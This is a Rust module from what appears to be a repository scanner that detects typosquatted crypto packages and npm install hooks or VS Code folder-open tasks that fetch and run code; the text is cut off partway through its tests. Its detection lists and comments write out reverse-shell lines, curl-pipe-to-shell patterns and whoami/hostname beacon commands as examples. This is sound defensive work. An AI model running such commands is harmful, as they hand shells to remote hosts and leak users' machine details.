//! Package manifests: npm install hooks that fetch and run code, and dependencies whose
//! names imitate well-known crypto packages (typosquats).

use super::anchors::Sig;
use super::classify::file_name;
use super::finding::ScamFinding;
use super::scanner::FileScan;
use crate::result::Severity;
use crate::tree::FileTree;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ecosystem {
    Npm,
    PyPi,
    Crates,
}

/// Well-known packages: the names scammers imitate, and the siblings that sit one edit from
/// each other (`bip32` beside `bip39`, `secp256k1` beside `secp256r1`). A dependency that is
/// itself on the list is never a look-alike, so every real sibling of a flagship belongs here.
/// Scoped names also cover their whole scope (see `same_scope`).
const NPM: &[&str] = &[
    // Ethereum
    "ethers",
    "web3",
    "web3-utils",
    "web3-eth",
    "web3-eth-contract",
    "web3-eth-accounts",
    "web3-eth-abi",
    "web3-core",
    "web3-providers-http",
    "viem",
    "wagmi",
    "@wagmi/core",
    "@wagmi/connectors",
    "@ethersproject/wallet",
    "@ethersproject/providers",
    "@ethersproject/contracts",
    "@ethersproject/bignumber",
    "@ethersproject/abi",
    "ethereumjs-wallet",
    "ethereumjs-util",
    "ethereumjs-tx",
    "@ethereumjs/tx",
    "@ethereumjs/util",
    "@ethereumjs/common",
    "ethereum-cryptography",
    "eth-sig-util",
    "@metamask/eth-sig-util",
    "@metamask/sdk",
    "@walletconnect/sign-client",
    "@walletconnect/ethereum-provider",
    "@rainbow-me/rainbowkit",
    "@uniswap/sdk",
    "@uniswap/sdk-core",
    "@uniswap/v2-sdk",
    "@uniswap/v3-sdk",
    "@uniswap/v4-sdk",
    "@uniswap/v2-core",
    "@uniswap/v3-core",
    "@uniswap/v2-periphery",
    "@uniswap/v3-periphery",
    "@openzeppelin/contracts",
    "@openzeppelin/contracts-upgradeable",
    "@chainlink/contracts",
    "hardhat",
    "@nomicfoundation/hardhat-toolbox",
    "@nomiclabs/hardhat-ethers",
    "truffle",
    "@truffle/hdwallet-provider",
    "ganache",
    "keccak",
    "js-sha3",
    // Solana
    "@solana/web3.js",
    "@solana/kit",
    "@solana/spl-token",
    "@solana/spl-token-registry",
    "@solana/wallet-adapter-base",
    "@solana/wallet-adapter-react",
    "@solana/wallet-adapter-react-ui",
    "@solana/wallet-adapter-wallets",
    "@solana/buffer-layout",
    "@coral-xyz/anchor",
    "@coral-xyz/borsh",
    "@project-serum/anchor",
    "@project-serum/serum",
    "@metaplex-foundation/js",
    "@metaplex-foundation/umi",
    "@metaplex-foundation/umi-bundle-defaults",
    "@metaplex-foundation/mpl-token-metadata",
    "@metaplex-foundation/mpl-bubblegum",
    "@raydium-io/raydium-sdk",
    "@raydium-io/raydium-sdk-v2",
    "@jup-ag/api",
    "@jup-ag/core",
    "@pythnetwork/client",
    "@pythnetwork/price-service-client",
    "@orca-so/whirlpools-sdk",
    "borsh",
    // Bitcoin (the bitcoinjs family and what it depends on)
    "bitcoinjs-lib",
    "bitcoinjs-message",
    "bip32",
    "bip38",
    "bip39",
    "bip65",
    "bip66",
    "bip68",
    "bip174",
    "tiny-secp256k1",
    "ecpair",
    "bs58",
    "bs58check",
    "base-x",
    "wif",
    "create-hash",
    "create-hmac",
    "coinselect",
    "hdkey",
    // Keys and signatures
    "@noble/secp256k1",
    "@noble/ed25519",
    "@noble/curves",
    "@noble/hashes",
    "@noble/ciphers",
    "@scure/bip32",
    "@scure/bip39",
    "@scure/base",
    "secp256k1",
    "secp256r1",
    "elliptic",
    "tweetnacl",
    "tweetnacl-util",
    "ed25519-hd-key",
    "crypto-js",
    "bn.js",
    "bignumber.js",
    // General packages crypto campaigns imitate (`crossenv` for `cross-env`). Not `request`:
    // listing it would make npm's old, real `requests` package its look-alike.
    "axios",
    "dotenv",
    "cross-env",
    "node-fetch",
];
const PYPI: &[&str] = &[
    "web3",
    "eth-account",
    "eth-utils",
    "eth-abi",
    "eth-typing",
    "eth-keys",
    "eth-hash",
    "eth-brownie",
    "py-evm",
    "solana",
    "solders",
    "anchorpy",
    "bip-utils",
    "bip32",
    "mnemonic",
    "base58",
    "pycryptodome",
    "pycryptodomex",
    "ecdsa",
    "coincurve",
    "pynacl",
    "cryptography",
    "ccxt",
    "python-binance",
    "requests",
    "grequests",
    "python-dotenv",
];
const CRATES: &[&str] = &[
    "solana-sdk",
    "solana-client",
    "solana-program",
    "solana-rpc-client",
    "solana-account-decoder",
    "anchor-lang",
    "anchor-spl",
    "anchor-client",
    "spl-token",
    "spl-token-2022",
    "spl-associated-token-account",
    "ethers",
    "alloy",
    "bs58",
    "ed25519-dalek",
    "x25519-dalek",
    "curve25519-dalek",
    "k256",
    "p256",
    "secp256k1",
    "bitcoin",
    "bitcoind",
    "bip39",
    "tiny-bip39",
    "tokio",
    "serde",
    "reqwest",
];

/// Real packages one edit away from a well-known one, published by someone else.
/// Real, popular packages one edit (or a `js` suffix) away from a listed name: `keccakjs`
/// (npm, by axic) beside `keccak`, `solara` (PyPI web framework) beside `solana`.
const LEGIT_NEIGHBOURS: &[&str] = &[
    "dotenvx",
    "web3x",
    "ethersv5",
    "solana-py",
    "solana-sdk-macro",
    "keccakjs",
    "solara",
];

/// Identity under each registry's own rules: PyPI folds case and treats runs of `-`, `_`,
/// `.` as one (PEP 503); crates.io folds case and `-`/`_`; npm names are lower-case by rule,
/// so only case is folded (old mixed-case names are the same package to a reader).
fn identity(eco: Ecosystem, name: &str) -> String {
    match eco {
        Ecosystem::Npm => name.to_ascii_lowercase(),
        Ecosystem::PyPi => {
            let mut out = String::new();
            for c in name.to_ascii_lowercase().chars() {
                let c = if matches!(c, '_' | '.') { '-' } else { c };
                if !(c == '-' && out.ends_with('-')) {
                    out.push(c);
                }
            }
            out
        }
        Ecosystem::Crates => name.to_ascii_lowercase().replace('_', "-"),
    }
}

/// Letters and digits only: what a hurried reader sees.
fn skeleton(name: &str) -> String {
    name.chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

/// The npm scope of a name (`@noble/hashes` → `noble`).
fn scope(name: &str) -> Option<&str> {
    name.strip_prefix('@')?.split_once('/').map(|(s, _)| s)
}

/// Optimal string alignment distance (Damerau-Levenshtein with adjacent swaps).
pub fn osa_distance(a: &str, b: &str) -> usize {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    let (n, m) = (a.len(), b.len());
    let mut d = vec![vec![0usize; m + 1]; n + 1];
    for (i, row) in d.iter_mut().enumerate() {
        row[0] = i;
    }
    for (j, cell) in d[0].iter_mut().enumerate() {
        *cell = j;
    }
    for i in 1..=n {
        for j in 1..=m {
            let cost = usize::from(a[i - 1] != b[j - 1]);
            d[i][j] = (d[i - 1][j] + 1).min(d[i][j - 1] + 1).min(d[i - 1][j - 1] + cost);
            if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                d[i][j] = d[i][j].min(d[i - 2][j - 2] + 1);
            }
        }
    }
    d[n][m]
}

/// Same length, one position differs, and it is a digit inside a number of two or more
/// digits in both names: `bip32` and `bip39`, `bip65` and `bip66` name different standards,
/// not a slip of the finger. A lone digit (`secp256k2` for `secp256k1`) is still a slip, and
/// so are swapped digits (`bip93` for `bip39`).
fn digit_swap(a: &str, b: &str) -> bool {
    let (a, b) = (a.as_bytes(), b.as_bytes());
    if a.len() != b.len() {
        return false;
    }
    let diff: Vec<usize> = (0..a.len()).filter(|&i| a[i] != b[i]).collect();
    let in_number = |s: &[u8], i: usize| {
        s[i].is_ascii_digit()
            && ((i > 0 && s[i - 1].is_ascii_digit()) || s.get(i + 1).is_some_and(|c| c.is_ascii_digit()))
    };
    matches!(diff.as_slice(), [i] if in_number(a, *i) && in_number(b, *i))
}

/// The well-known package `name` imitates, if any.
///
/// Flagged: the same letters and digits with other punctuation (`crossenv`, `solana-web3.js`
/// for `@solana/web3.js`, also inside the real scope: organisations do not publish two names
/// that read the same, so `@solana/web3js` is an impostor or resolves from another
/// registry), npm's `js` suffix on a flagship (`ethersjs`, `ethers.js`), and names of at
/// least five letters one edit or transposition away (`bitcoinjs-libs`, `pycryptodom`).
///
/// Not flagged: a name that is itself well known or a known neighbour; the same package
/// under the registry's own spelling rules (PEP 503, crates' `-`/`_`, case); a different
/// name inside the same npm scope as the package it resembles (only that organisation can
/// publish there, so it is a sibling: `@noble/hashes` beside `@noble/curves`); a one-digit
/// change (`bip32` beside `bip39`).
pub fn typosquat_of(eco: Ecosystem, name: &str) -> Option<&'static str> {
    let known = match eco {
        Ecosystem::Npm => NPM,
        Ecosystem::PyPi => PYPI,
        Ecosystem::Crates => CRATES,
    };
    let id = identity(eco, name);
    if known.iter().any(|k| identity(eco, k) == id) || LEGIT_NEIGHBOURS.iter().any(|k| identity(eco, k) == id) {
        return None;
    }
    let sk = skeleton(name);
    if sk.is_empty() {
        return None;
    }
    let own_scope = scope(name);
    for k in known {
        let ks = skeleton(k);
        if sk == ks {
            return Some(k);
        }
        // Inside the resembled package's own scope: a sibling by the same publisher.
        if own_scope.is_some() && own_scope == scope(k) {
            continue;
        }
        if eco == Ecosystem::Npm && ks.len() >= 4 && !ks.ends_with("js") && sk == format!("{ks}js") {
            return Some(k);
        }
        if sk.len() >= 5 && ks.len() >= 5 && osa_distance(&sk, &ks) == 1 && !digit_swap(&sk, &ks) {
            return Some(k);
        }
    }
    None
}

/// The registry name an npm dependency spec installs: the key, or the target of an
/// `npm:` alias (`"ethers5": "npm:ethers@5"` installs `ethers`). `None` for specs that do
/// not come from the registry by name (workspace, local path, git, tarball URL): their
/// key is a local label, not something a typosquatter can publish.
fn npm_registry_name(key: &str, spec: &str) -> Option<String> {
    let spec = spec.trim();
    if let Some(target) = spec.strip_prefix("npm:") {
        // `@scope/name@range` or `name@range`: the range follows the first `@` past the
        // scope's own.
        let name = match target.get(1..).and_then(|t| t.find('@')) {
            Some(i) => &target[..i + 1],
            None => target,
        };
        return (!name.is_empty()).then(|| name.to_string());
    }
    let local = [
        "file:",
        "link:",
        "workspace:",
        "portal:",
        "git+",
        "git:",
        "github:",
        "gitlab:",
        "bitbucket:",
        "http:",
        "https:",
    ];
    if local.iter().any(|p| spec.starts_with(p)) {
        return None;
    }
    // `user/repo` shorthand for a GitHub dependency.
    if spec.contains('/') && !spec.starts_with('@') && !spec.contains(' ') {
        return None;
    }
    Some(key.to_string())
}

/// Declared dependencies of one manifest, by ecosystem, as the registry names they install.
pub fn dependencies(path: &str, data: &[u8]) -> Vec<(Ecosystem, String)> {
    let name = file_name(path);
    let text = String::from_utf8_lossy(data);
    let mut out = Vec::new();
    if name == "package.json" {
        if let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) {
            for sec in [
                "dependencies",
                "devDependencies",
                "optionalDependencies",
                "peerDependencies",
            ] {
                if let Some(obj) = v.get(sec).and_then(|d| d.as_object()) {
                    for (k, spec) in obj {
                        let spec = spec.as_str().unwrap_or("");
                        if let Some(n) = npm_registry_name(k, spec) {
                            out.push((Ecosystem::Npm, n));
                        }
                    }
                }
            }
        }
    } else if name.starts_with("requirements") && name.ends_with(".txt") {
        for line in text.lines() {
            let l = line.split(" #").next().unwrap_or("").trim();
            // Options (`-r`, `--hash`), comments, and local paths or bare URLs, which are
            // not installed by name.
            if l.is_empty() || l.starts_with(['-', '#', '.', '/']) || (l.contains("://") && !l.contains(" @ ")) {
                continue;
            }
            let n: String = l
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
                .collect();
            // `name @ https://…` installs from the URL, not the registry.
            if n.is_empty() || l[n.len()..].trim_start().starts_with('@') {
                continue;
            }
            out.push((Ecosystem::PyPi, n));
        }
    } else if name == "Cargo.toml" {
        cargo_dependencies(&text, &mut out);
    }
    out
}

/// Cargo.toml dependencies from `[dependencies]`-like tables (`dev-`, `build-`, `target.…`,
/// `workspace.`), inline (`k = "1"`, `k = { … }`, `k.version = "1"`) and as their own tables
/// (`[dependencies.k]`). A `package = "…"` rename names the crate really fetched; `path`,
/// `git` and `workspace = true` entries do not come from crates.io by that name.
fn cargo_dependencies(text: &str, out: &mut Vec<(Ecosystem, String)>) {
    let is_dep_table = |h: &str| h == "dependencies" || h.ends_with(".dependencies") || h.ends_with("-dependencies");
    let package_of = |body: &str| -> Option<String> {
        let i = body.find("package")?;
        let rest = body[i + "package".len()..].trim_start().strip_prefix('=')?;
        let rest = rest.trim_start().strip_prefix('"')?;
        rest.split('"').next().map(str::to_string)
    };
    let not_registry = |body: &str| {
        ["path", "git", "workspace"].iter().any(|k| {
            body.split([',', '{', '\n'])
                .any(|kv| kv.trim_start().starts_with(k) && kv.contains('='))
        })
    };
    // State: inside a dependencies table, or inside `[dependencies.<name>]`.
    let mut in_deps = false;
    let mut table_dep: Option<(String, String)> = None;
    let flush = |t: &mut Option<(String, String)>, out: &mut Vec<(Ecosystem, String)>| {
        if let Some((name, body)) = t.take() {
            if !not_registry(&body) {
                out.push((Ecosystem::Crates, package_of(&body).unwrap_or(name)));
            }
        }
    };
    for line in text.lines() {
        let l = line.split(" #").next().unwrap_or("").trim();
        if l.starts_with('#') {
            continue;
        }
        if let Some(h) = l.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
            flush(&mut table_dep, out);
            let h = h.trim();
            in_deps = is_dep_table(h);
            if let Some((table, dep)) = h.rsplit_once('.') {
                if is_dep_table(table) {
                    table_dep = Some((dep.trim_matches('"').to_string(), String::new()));
                }
            }
            continue;
        }
        if let Some((_, body)) = table_dep.as_mut() {
            body.push_str(l);
            body.push('\n');
            continue;
        }
        if !in_deps {
            continue;
        }
        let Some((k, v)) = l.split_once('=') else {
            continue;
        };
        let k = k.trim().trim_matches('"');
        let (k, field) = match k.split_once('.') {
            Some((k, f)) => (k.trim_matches('"'), Some(f)),
            None => (k, None),
        };
        if k.is_empty() || matches!(field, Some("path" | "git" | "workspace")) {
            continue;
        }
        if field.is_none() && v.contains('{') && not_registry(v) {
            continue;
        }
        if matches!(field, Some(f) if f != "version") {
            continue;
        }
        let real = if field.is_none() { package_of(v) } else { None };
        out.push((Ecosystem::Crates, real.unwrap_or_else(|| k.to_string())));
    }
    flush(&mut table_dep, out);
}

/// npm lifecycle scripts that run on `npm install`.
const INSTALL_HOOKS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];

pub fn evaluate(tree: &FileTree, scans: &[FileScan]) -> Vec<ScamFinding> {
    let mut out = Vec::new();
    for f in &tree.files {
        if super::classify::vendored(&f.path) || f.truncated {
            continue;
        }
        let name = file_name(&f.path);
        let manifest = matches!(name, "package.json" | "Cargo.toml")
            || (name.starts_with("requirements") && name.ends_with(".txt"));
        if !manifest {
            continue;
        }
        for (eco, dep) in dependencies(&f.path, &f.data) {
            if let Some(real) = typosquat_of(eco, &dep) {
                out.push(ScamFinding {
                    check: "scam.typosquat",
                    severity: Severity::Critical,
                    title: format!("Typosquatted dependency {dep}"),
                    path: f.path.clone(),
                    line: 0,
                    detail: format!("{} depends on \"{dep}\", a look-alike of the well-known package \"{real}\"; look-alikes are how malicious packages get installed.", f.path),
                });
            }
        }
        if name == "package.json" {
            install_hooks(&f.path, &f.data, tree, scans, &mut out);
        }
    }
    // Key handling in one file, the sending helper in another.
    super::behaviour::package::evaluate(tree, scans, &mut out);
    for f in &tree.files {
        if f.path.ends_with(".vscode/tasks.json") && !f.truncated {
            folder_open_task(&f.path, &f.data, &mut out);
        }
    }
    out
}

/// Words of a command line that fetches something.
const DOWNLOAD_WORDS: [&str; 8] = [
    "curl ",
    "wget ",
    "invoke-webrequest",
    "iwr ",
    "certutil",
    "bitsadmin",
    "http://",
    "https://",
];
/// Words of a command line that runs what it has (a shell, an interpreter, a local file).
const RUN_WORDS: [&str; 13] = [
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| cmd",
    "| node",
    "iex",
    "&& ./",
    "; ./",
    "chmod +x",
    "powershell",
    "eval",
    "| python",
];

fn downloads(lc: &str) -> bool {
    DOWNLOAD_WORDS.iter().any(|w| lc.contains(w))
}

fn runs(lc: &str) -> bool {
    RUN_WORDS.iter().any(|w| lc.contains(w))
}

/// A download piped into a shell (`curl … | bash`, `iwr … | iex`, `wget -O- … | sh`).
fn downloads_and_runs(lc: &str) -> bool {
    downloads(lc) && runs(lc)
}

/// `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh host port`: a shell handed to a
/// remote host.
fn reverse_shell(lc: &str) -> bool {
    (lc.contains("/dev/tcp/") || lc.contains("/dev/udp/")) && ["0>&1", ">&", "-i"].iter().any(|w| lc.contains(w))
        || ["nc ", "ncat ", "netcat "].iter().any(|w| lc.contains(w))
            && [" -e /bin/", " -e sh", " -e bash", " -c /bin/"]
                .iter()
                .any(|w| lc.contains(w))
}

/// VS Code runs a task with `"runOptions": {"runOn": "folderOpen"}` as soon as the folder is
/// opened (once the workspace is trusted): a fake "interview task" repository uses it to run
/// a remote script on the candidate's machine. A `folderOpen` task that starts a watcher or
/// `npm install` is ordinary.
fn folder_open_task(path: &str, data: &[u8], out: &mut Vec<ScamFinding>) {
    let text = String::from_utf8_lossy(data);
    if !text.contains("folderOpen") {
        return;
    }
    // tasks.json allows comments and trailing commas: read commands from the text.
    let lc = text.to_ascii_lowercase();
    let mut cmds = Vec::new();
    for (i, _) in lc.match_indices("\"command\"") {
        let rest = &text[i + 9..];
        let Some(q) = rest.find('"') else { continue };
        let body = &rest[q + 1..];
        let end = body
            .char_indices()
            .find(|&(j, c)| c == '"' && !body[..j].ends_with('\\'))
            .map(|(j, _)| j)
            .unwrap_or(body.floor_char_boundary(400));
        cmds.push(body[..end].to_string());
    }
    let Some(cmd) = cmds.iter().find(|c| {
        let c = c.to_ascii_lowercase();
        downloads_and_runs(&c) || reverse_shell(&c)
    }) else {
        return;
    };
    out.push(ScamFinding {
        check: "scam.malware",
        severity: Severity::Critical,
        title: "Editor task runs a remote script when the folder is opened".to_string(),
        path: path.to_string(),
        line: 0,
        detail: format!(
            "{path} defines a VS Code task that runs on folderOpen (as soon as the project is opened) and downloads and runs code: `{}`.",
            truncate(cmd, 120)
        ),
    });
}

fn install_hooks(path: &str, data: &[u8], tree: &FileTree, scans: &[FileScan], out: &mut Vec<ScamFinding>) {
    let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) else {
        return;
    };
    let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
        return;
    };
    let dir = path.rsplit_once('/').map(|(d, _)| format!("{d}/")).unwrap_or_default();
    for hook in INSTALL_HOOKS {
        let Some(cmd) = scripts.get(hook).and_then(|c| c.as_str()) else {
            continue;
        };
        let lc = cmd.to_ascii_lowercase();
        let (downloads, runs) = (downloads(&lc), runs(&lc));
        // `node -e "…"` that opens connections, spawns programs or resolves names.
        let inline_node = (lc.contains("node -e") || lc.contains("node --eval"))
            && [
                "http",
                "child_process",
                "dns",
                "require('net')",
                "require(\"net\")",
                "os.hostname",
                "userinfo",
            ]
            .iter()
            .any(|w| lc.contains(w));
        // `nslookup $(whoami).x.oast.fun`, `curl https://x?h=$(hostname)`: a beacon that
        // reports who installed the package.
        let beacon = ["nslookup", "dig ", "curl ", "wget ", "ping ", "host "]
            .iter()
            .any(|w| lc.contains(w))
            && [
                "$(hostname",
                "`hostname`",
                "$(whoami",
                "`whoami`",
                "$user",
                "${user}",
                "%username%",
                "%computername%",
                "$(env",
                "printenv",
            ]
            .iter()
            .any(|w| lc.contains(w));
        let revshell = reverse_shell(&lc);
        // Piped straight into an interpreter: not a release binary fetched by an installer.
        let piped = downloads
            && [
                "| sh", "|sh", "| bash", "|bash", "| iex", "|iex", "| node", "| python", "| cmd",
            ]
            .iter()
            .any(|w| lc.contains(w));
        if revshell || piped {
            // The hook's own command is the payload: malicious behaviour, like the same
            // command in a script file.
            out.push(ScamFinding {
                check: "scam.malware",
                severity: Severity::Critical,
                title: if revshell {
                    "Reverse shell".to_string()
                } else {
                    "Downloads and runs code".to_string()
                },
                path: path.to_string(),
                line: 0,
                detail: format!(
                    "The npm \"{hook}\" script in {path} {}: `{}`.",
                    if revshell {
                        "hands a shell to a remote host (reverse shell)"
                    } else {
                        "pipes a download into a shell"
                    },
                    truncate(cmd, 120)
                ),
            });
        }
        let (sev, title, why) = if revshell {
            (
                Severity::Critical,
                "Install script opens a reverse shell",
                "hands a shell to a remote host".to_string(),
            )
        } else if beacon {
            (
                Severity::Critical,
                "Install script reports the machine to a remote host",
                "sends the user or host name out (DNS/HTTP beacon)".to_string(),
            )
        } else if (downloads && runs) || inline_node {
            (
                Severity::Critical,
                "Install script downloads and runs code",
                "downloads code and runs it".to_string(),
            )
        } else if downloads {
            (
                Severity::High,
                "Install script downloads files",
                "downloads files from the internet".to_string(),
            )
        } else if let Some(fs) = local_scripts(cmd)
            .into_iter()
            .map(|s| format!("{dir}{s}"))
            .find_map(|script| {
                // `node index` runs index.js.
                let fs = scans
                    .iter()
                    .find(|s| s.path == script || s.path == format!("{script}.js"))?;
                // The script may only launch another local file (`exec('compile.bat')`,
                // `exec('/bin/bash preinstall.sh')`): judge by the worst of them.
                Some(worst_of_chain(fs, &dir, tree, scans))
            })
        {
            // `node scripts/setup.js`: judge the script by its own signals. Malicious
            // behaviour (a stealer, a beacon, a dropper) run on install is critical even
            // when the same code in a library would be high.
            let critical = fs.scam.iter().any(|f| {
                f.severity == Severity::Critical || (f.check == "scam.malware" && f.severity >= Severity::High)
            });
            let net = fs.count(Sig::NetworkUse) > 0;
            let spawn = fs.count(Sig::ProcessSpawn) > 0;
            if critical {
                (Severity::Critical, "Install script runs malicious code", {
                    let worst = fs
                        .scam
                        .iter()
                        .filter(|f| f.severity >= Severity::High)
                        .max_by_key(|f| f.severity);
                    match worst {
                        Some(w) => format!("runs {} ({}: {})", fs.path, w.title.to_lowercase(), w.detail),
                        None => "runs a script with a critical finding".to_string(),
                    }
                })
            } else if net && spawn {
                (
                    Severity::High,
                    "Install script fetches and starts programs",
                    "runs a script that uses the network and starts programs".to_string(),
                )
            } else if net {
                (
                    Severity::Medium,
                    "Install script uses the network",
                    "runs a script that uses the network".to_string(),
                )
            } else {
                continue;
            }
        } else {
            continue;
        };
        out.push(ScamFinding {
            check: "scam.install_scripts",
            severity: sev,
            title: title.to_string(),
            path: path.to_string(),
            line: 0,
            detail: format!(
                "The npm \"{hook}\" script in {path} {why} on every install: `{}`.",
                truncate(cmd, 120)
            ),
        });
    }
}

/// The script itself, or a local file it launches by name (`exec('compile.bat')`,
/// `exec('/bin/bash preinstall.sh')`) if that one has a critical or high-severity
/// scam.malware finding: the hook runs whatever the script runs.
fn worst_of_chain<'a>(fs: &'a FileScan, dir: &str, tree: &FileTree, scans: &'a [FileScan]) -> &'a FileScan {
    let bad = |s: &FileScan| {
        s.scam
            .iter()
            .any(|f| f.severity == Severity::Critical || (f.check == "scam.malware" && f.severity >= Severity::High))
    };
    if bad(fs) {
        return fs;
    }
    let Some(src) = tree.files.iter().find(|f| f.path == fs.path) else {
        return fs;
    };
    let text = String::from_utf8_lossy(&src.data);
    for quoted in text.split(['\'', '"', '`']).skip(1).step_by(2) {
        if quoted.len() > 200 {
            continue;
        }
        for word in quoted.split_whitespace() {
            let name = word.trim_start_matches("./").trim_start_matches(".\\");
            let runnable = [".bat", ".cmd", ".sh", ".ps1", ".js", ".py", ".vbs"]
                .iter()
                .any(|e| name.ends_with(e));
            if !runnable || name.contains('/') && !name.starts_with(dir) && !dir.is_empty() {
                continue;
            }
            let target = format!("{dir}{name}");
            if let Some(next) = scans.iter().find(|s| s.path == target && bad(s)) {
                return next;
            }
        }
    }
    fs
}

/// The local scripts a hook command runs, one per `&&`/`||`/`;` segment
/// (`node a.js && node b.js`, `start /B node a.js` on Windows).
fn local_scripts(cmd: &str) -> Vec<String> {
    cmd.split(['&', '|', ';'])
        .filter_map(|seg| {
            let mut it = seg
                .split_whitespace()
                .skip_while(|w| matches!(*w, "start" | "/B" | "/b" | "cmd" | "/c" | "/C"));
            let first = it.next()?;
            if !matches!(first, "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash") {
                return None;
            }
            it.find(|a| !a.starts_with('-'))
                .map(|s| s.trim_start_matches("./").to_string())
        })
        .collect()
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        format!("{}…", s.chars().take(n).collect::<String>())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn typosquats() {
        use Ecosystem::*;
        // Look-alikes modelled on real campaigns, each beside its near miss.
        let flagged: &[(Ecosystem, &str, &str)] = &[
            (Npm, "crossenv", "cross-env"),               // the 2017 npm campaign
            (Npm, "cross.env", "cross-env"),              // same letters, other punctuation
            (Npm, "@solana/web3js", "@solana/web3.js"),   // reads the same inside the scope
            (Npm, "solana-web3.js", "@solana/web3.js"),   // scope dropped
            (Npm, "@solanna/web3.js", "@solana/web3.js"), // scope misspelt
            (Npm, "ethersjs", "ethers"),                  // `js` suffix
            (Npm, "ethers.js", "ethers"),
            (Npm, "etherss", "ethers"),
            (Npm, "bitcoinjs-libs", "bitcoinjs-lib"),
            (Npm, "bitcoinjs-lb", "bitcoinjs-lib"),
            (Npm, "bip93", "bip39"), // transposition
            (Npm, "axois", "axios"),
            (Npm, "ellipitc", "elliptic"),
            (Npm, "tiny-secp256k2", "tiny-secp256k1"),
            (Npm, "noble-hashes", "@noble/hashes"),
            (Npm, "@nobel/hashes", "@noble/hashes"),
            (PyPi, "pycryptodom", "pycryptodome"),
            (PyPi, "request", "requests"), // on PyPI, `request` is the squat
            (PyPi, "solanna", "solana"),
            (PyPi, "eth-acount", "eth-account"),
            (Crates, "solana-sdkk", "solana-sdk"),
            (Crates, "anchor_langg", "anchor-lang"),
        ];
        for (eco, dep, real) in flagged {
            assert_eq!(typosquat_of(*eco, dep), Some(*real), "{dep} imitates {real}");
        }
        let clean: &[(Ecosystem, &str)] = &[
            // Real packages one step from a listed name (reviewer's finds).
            (Npm, "keccakjs"),
            (PyPi, "solara"),
            // Siblings by the same publisher.
            (Npm, "bip32"),
            (Npm, "bip39"),
            (Npm, "bip38"),
            (Npm, "bip174"),
            (Npm, "bip30"), // a changed digit of a number names another BIP, not a slip
            (Npm, "bip175"),
            (Npm, "tiny-secp256k1"),
            (Npm, "ecpair"),
            (Npm, "bs58check"),
            (Npm, "create-hash"),
            (Npm, "web3-utils"),
            (Npm, "web3-eth"),
            (Npm, "@noble/hashes"),
            (Npm, "@noble/curves"),
            (Npm, "@noble/secp256k2"), // inside @noble: only noble can publish it
            (Npm, "@solana/spl-token"),
            (Npm, "@solana/spl-token-metadata"),
            (Npm, "@solana/web3.js"),
            (Npm, "@coral-xyz/anchor"),
            (Npm, "@project-serum/anchor"),
            (Npm, "@metaplex-foundation/mpl-core"),
            (Npm, "@uniswap/v3-sdk"),
            (Npm, "@uniswap/v4-core"),
            (Npm, "@openzeppelin/contracts-upgradeable"),
            (Npm, "@openzeppelin/merkle-tree"),
            (Npm, "secp256r1"),
            (Npm, "ethers"),
            (Npm, "Ethers"), // case only
            (Npm, "web3"),
            (Npm, "viem"),
            (Npm, "wagmi"),
            // Real packages near a flagship.
            (Npm, "request"),
            (Npm, "dotenvx"),
            (Npm, "bs59"), // short: only exact skeletons
            (Npm, "react"),
            (Npm, "preact"),
            (Npm, "@scure/bip39"),
            (Npm, "ethers-v5-compat"),
            // Registry-equivalent spellings.
            (PyPi, "eth_account"),
            (PyPi, "Eth.Account"),
            (PyPi, "Solana"),
            (PyPi, "solana-py"),
            (PyPi, "pycryptodomex"),
            (PyPi, "PyCryptodome"),
            (PyPi, "grequests"),
            (PyPi, "requests"),
            (Crates, "solana_sdk"),
            (Crates, "Solana-SDK"),
            (Crates, "tokio-util"),
            (Crates, "x25519-dalek"),
            (Crates, "bip32"),
            (Crates, "bitcoind"),
            (Npm, ""),
        ];
        for (eco, dep) in clean {
            assert_eq!(typosquat_of(*eco, dep), None, "{dep} is not a typosquat");
        }
    }

    #[test]
    fn well_known_lists_do_not_flag_each_other() {
        for (eco, list) in [
            (Ecosystem::Npm, NPM),
            (Ecosystem::PyPi, PYPI),
            (Ecosystem::Crates, CRATES),
        ] {
            for k in list {
                assert_eq!(typosquat_of(eco, k), None, "{k}");
            }
        }
    }

    #[test]
    fn deps_parsing() {
        let names = |path: &str, data: &[u8]| dependencies(path, data).into_iter().map(|(_, n)| n).collect::<Vec<_>>();
        let pj = br#"{"dependencies":{"ethers":"^6","ethers5":"npm:ethers@5.7.2","sol":"npm:@solana/web3.js@^1","local":"file:../x","ws":"workspace:*","fork":"github:me/etherss","short":"me/repo","tgz":"https://x.example/a.tgz"},"devDependencies":{"etherss":"1"}}"#;
        assert_eq!(
            names("package.json", pj),
            vec!["ethers", "ethers", "@solana/web3.js", "etherss"]
        );
        let req = b"web3==6.0\n# c\n-r other.txt\nsolders>=0.18 ; python_version>'3'\neth-account[extra]~=0.9  # pinned\n./local/pkg\ngit+https://github.com/x/y.git#egg=etherss\nmypkg @ https://x.example/mypkg.whl\n    --hash=sha256:abc\n";
        assert_eq!(names("requirements.txt", req), vec!["web3", "solders", "eth-account"]);
        let ct = br#"[package]
name = "x"
version = "0.1.0"
[dependencies]
serde = "1"
tokio = { version = "1", features = ["full"] }
sdk = { package = "solana-sdkk", version = "2" }
mine = { path = "../mine" }
shared = { workspace = true }
fork = { git = "https://github.com/x/y" }
anchor-lang.version = "0.30"
anchor-lang.features = ["init-if-needed"]
[dev-dependencies]
solana-sdkk = "1"
[target.'cfg(unix)'.dependencies]
nix = "0.29"
[dependencies.reqwestt]
version = "0.12"
features = ["json"]
[dependencies.renamed]
package = "tokioo"
version = "1"
[dependencies.localcrate]
path = "../local"
[features]
default = ["serde"]
"#;
        assert_eq!(
            names("Cargo.toml", ct),
            vec![
                "serde",
